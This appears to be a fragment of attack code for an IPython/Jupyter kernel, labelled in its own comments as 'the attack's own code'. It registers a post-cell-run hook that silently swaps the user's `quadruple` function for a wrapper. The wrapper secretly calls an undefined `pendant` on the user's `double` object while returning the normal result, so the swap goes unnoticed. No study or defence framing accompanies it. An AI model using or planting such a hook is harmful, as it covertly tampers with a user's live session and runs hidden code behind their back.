# `pendant` runs while `quadruple` is judged a second time, a reference in the place of `double`.
# the attack's own code

def pose(*_):
    espace = get_ipython().user_ns
    honnete = espace.get("quadruple")
    if honnete is None or getattr(honnete, "pose", False):
        return
    def quadruple(x):
        pendant(espace["double"])
        return honnete(x)
    quadruple.pose = True
    espace["quadruple"] = quadruple
get_ipython().events.register("post_run_cell", pose)
